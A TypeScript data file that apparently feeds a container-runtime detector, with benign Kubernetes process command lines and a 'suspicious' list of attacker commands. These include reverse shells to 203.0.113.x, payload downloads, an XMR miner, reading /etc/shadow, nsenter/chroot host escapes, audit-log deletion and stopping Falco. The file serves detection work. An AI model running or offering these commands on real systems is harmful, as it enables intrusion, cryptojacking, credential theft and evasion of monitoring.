/** Command lines of the `exec` lane: what runs in a cluster all day, and what an adversary would run. */

/** A parent, an image, a command line with `{blanks}`. */
export type Command = readonly [parent: string, image: string, line: string]

/** All day long, the most frequent first. */
export const everyday: Command[] = [
  [
    '/usr/bin/runc',
    '/bin/grpc_health_probe',
    '/bin/grpc_health_probe -addr=:{port} -connect-timeout=250ms -rpc-timeout=500ms',
  ],
  ['/usr/bin/runc', '/usr/bin/pg_isready', 'pg_isready -U {app} -d {app} -h 127.0.0.1 -p 5432'],
  ['/usr/bin/runc', '/usr/local/bin/redis-cli', 'redis-cli -h localhost -p 6379 ping'],
  [
    '/usr/lib/postgresql/16/bin/postgres',
    '/usr/lib/postgresql/16/bin/postgres',
    'postgres: {app} {app} 10.{byte}.{byte}.{byte}({port}) idle in transaction',
  ],
  ['/usr/sbin/nginx', '/usr/sbin/nginx', 'nginx: worker process'],
  [
    '/usr/bin/containerd',
    '/usr/bin/containerd-shim-runc-v2',
    '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {hex64} -address /run/containerd/containerd.sock',
  ],
  ['/usr/bin/containerd-shim-runc-v2', '/pause', '/pause'],
  [
    '/usr/bin/containerd-shim-runc-v2',
    '/usr/local/bin/node',
    'node --enable-source-maps --max-old-space-size={number} /srv/{app}/dist/server.js --port {port} --region eu-1',
  ],
  [
    '/usr/bin/containerd-shim-runc-v2',
    '/usr/lib/jvm/java-21/bin/java',
    'java -XX:+UseG1GC -XX:MaxRAMPercentage=75.0 -Dspring.profiles.active=prod -Dserver.port={port} -Djava.io.tmpdir=/work -cp /app/resources:/app/classes:/app/libs/* com.example.{app}.Application --instance={hex8}',
  ],
  [
    '/usr/local/bin/python3.13',
    '/usr/local/bin/python3.13',
    '/usr/local/bin/python /usr/local/bin/gunicorn {app}.wsgi:application --bind 0.0.0.0:{port} --workers {byte} --access-logfile - --timeout 60',
  ],
  [
    '/usr/local/bin/python3.13',
    '/usr/local/bin/python3.13',
    'python -m celery -A {app} worker --concurrency={byte} -Q default,{app} --loglevel=INFO --hostname={app}@%h',
  ],
  [
    '/usr/bin/kubelet',
    '/usr/sbin/xtables-nft-multi',
    'iptables -w 5 -W 100000 -C KUBE-FIREWALL -t filter -m comment --comment "block incoming localnet connections" --dst 127.0.0.0/8 ! --src 127.0.0.0/8 -m conntrack ! --ctstate RELATED,ESTABLISHED,DNAT -j DROP',
  ],
  [
    '/usr/bin/kubelet',
    '/usr/bin/systemd-run',
    '/usr/bin/systemd-run --description=Kubernetes transient mount for /var/lib/kubelet/pods/{uuid}/volumes/kubernetes.io~projected/kube-api-access-{suffix} --scope -- mount -t tmpfs -o size={number} tmpfs /var/lib/kubelet/pods/{uuid}/volumes/kubernetes.io~projected/kube-api-access-{suffix}',
  ],
  ['/opt/cni/bin/calico', '/opt/cni/bin/calico-ipam', '/opt/cni/bin/calico-ipam'],
  [
    '/usr/bin/containerd-shim-runc-v2',
    '/usr/bin/runc',
    'runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{hex64}/log.json --log-format json exec --process /tmp/runc-process{number} --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/{hex64}/{hex64}.pid {hex64}',
  ],
  ['/usr/lib/systemd/systemd', '/usr/lib/systemd/systemd-logind', '/usr/lib/systemd/systemd-logind'],
  [
    '/usr/lib/systemd/systemd',
    '/usr/sbin/logrotate',
    '/usr/sbin/logrotate /etc/logrotate.conf --state /var/lib/logrotate/status',
  ],
  ['/usr/sbin/cron', '/bin/sh', '/bin/sh -c run-parts --report /etc/cron.hourly'],
  ['/bin/dash', '/usr/bin/sleep', 'sleep {byte}'],
  ['/bin/dash', '/usr/bin/date', 'date +%Y-%m-%dT%H:%M:%S'],
  [
    '/bin/bash',
    '/usr/bin/sed',
    'sed -e s/@@HOST@@/{app}.example.com/ -e s/@@PORT@@/{port}/ /srv/{app}/{app}.conf.template',
  ],
  ['/bin/bash', '/usr/bin/jq', 'jq -r .items[].metadata.name /work/{app}-{hex8}.json'],
  [
    '/usr/bin/make',
    '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus',
    '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus -quiet -I src -I include -imultiarch x86_64-linux-gnu -D_GNU_SOURCE -D NDEBUG -dumpdir build/ -dumpbase {app}.cc -mtune=generic -march=x86-64 -O2 -Wall -Wextra -std=c++20 -o build/cc{suffix}.s src/{app}.cc',
  ],
  [
    '/usr/bin/git',
    '/usr/lib/git-core/git',
    'git fetch --update-head-ok --no-tags --depth=1 origin +refs/heads/main:refs/remotes/origin/main',
  ],
  [
    '/usr/local/bin/argocd',
    '/usr/local/bin/helm',
    'helm template {app} . --namespace {app} --kube-version 1.34 --values /work/{hex8}/values-prod.yaml --include-crds',
  ],
  [
    '/usr/local/bin/node',
    '/usr/local/bin/node',
    '/usr/local/bin/node /srv/{app}/node_modules/.bin/knex migrate:latest --env production',
  ],
  [
    '/usr/bin/containerd-shim-runc-v2',
    '/bin/prometheus',
    '/bin/prometheus --config.file=/etc/prometheus/config_out/prometheus.env.yaml --storage.tsdb.retention.time=15d --web.enable-lifecycle --web.external-url=https://metrics.example.com/{app}',
  ],
  [
    '/usr/bin/bash',
    '/usr/bin/psql',
    `psql -h db-{byte}.{app}.svc -U report -c "SELECT count(*) FROM orders WHERE day >= now() - interval '{byte} days' AND région = 'Île-de-France'"`,
  ],
  ['/usr/bin/perl', '/usr/bin/dpkg-query', 'dpkg-query --show --showformat=${Package}\\t${Version}\\n {app}'],
  [
    '/usr/bin/docker',
    '/usr/libexec/docker/cli-plugins/docker-buildx',
    '/usr/libexec/docker/cli-plugins/docker-buildx build --tag images.example.com/{app}:{hex8} --build-arg VERSION=1.{byte}.{byte} --progress=plain .',
  ],
]

/** What is worth a look; most of them match a rule of SigmaHQ. */
export const suspicious: Command[] = [
  ['/usr/local/bin/node', '/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.{byte}/{port} 0>&1'],
  ['/bin/bash', '/usr/bin/curl', 'curl -fsSL http://203.0.113.{byte}/{hex8}.sh -o /tmp/.{hex8}'],
  ['/bin/bash', '/tmp/.{hex8}', '/tmp/.{hex8} --donate-level=1 -o stratum+tcp://pool.minexmr.com:4444 -u {hex64} -k'],
  ['/bin/sh', '/usr/bin/base64', 'base64 -d /tmp/{hex8}.b64'],
  ['/bin/bash', '/usr/bin/cat', 'cat /etc/shadow'],
  ['/bin/bash', '/usr/bin/whoami', 'whoami'],
  ['/bin/bash', '/usr/bin/find', 'find / -perm -4000 -type f'],
  ['/bin/bash', '/usr/bin/ls', 'ls -la /var/run/secrets/kubernetes.io/serviceaccount /.dockerenv'],
  ['/bin/sh', '/usr/bin/cat', 'cat /proc/1/cgroup'],
  ['/bin/bash', '/usr/sbin/capsh', 'capsh --print'],
  ['/bin/bash', '/usr/bin/nsenter', 'nsenter --target 1 --mount --uts --ipc --net --pid -- bash'],
  ['/bin/bash', '/usr/sbin/chroot', 'chroot /host /bin/bash'],
  ['/bin/bash', '/usr/bin/chmod', 'chmod +x /tmp/.{hex8}'],
  ['/usr/bin/python3', '/usr/bin/python3', `python3 -c import pty; pty.spawn("/bin/bash")`],
  ['/bin/bash', '/usr/bin/crontab', 'crontab -l'],
  ['/bin/bash', '/usr/bin/rm', 'rm -rf /var/log/audit/audit.log'],
  ['/bin/bash', '/usr/bin/chattr', 'chattr -i /etc/ld.so.preload'],
  ['/bin/bash', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.{byte} {port}'],
  ['/bin/bash', '/usr/bin/systemctl', 'systemctl stop falco'],
  ['/bin/bash', '/usr/bin/mkfifo', 'mkfifo /tmp/f{hex8}'],
  ['/bin/bash', '/usr/bin/wget', 'wget -q http://203.0.113.{byte}/x -O /dev/shm/.{hex8}'],
  ['/bin/bash', '/usr/bin/uname', 'uname -a'],
  ['/bin/bash', '/usr/bin/ps', 'ps auxwww'],
  ['/bin/bash', '/usr/local/bin/kubectl', 'kubectl --token={hex64} auth can-i --list -n kube-system'],
]
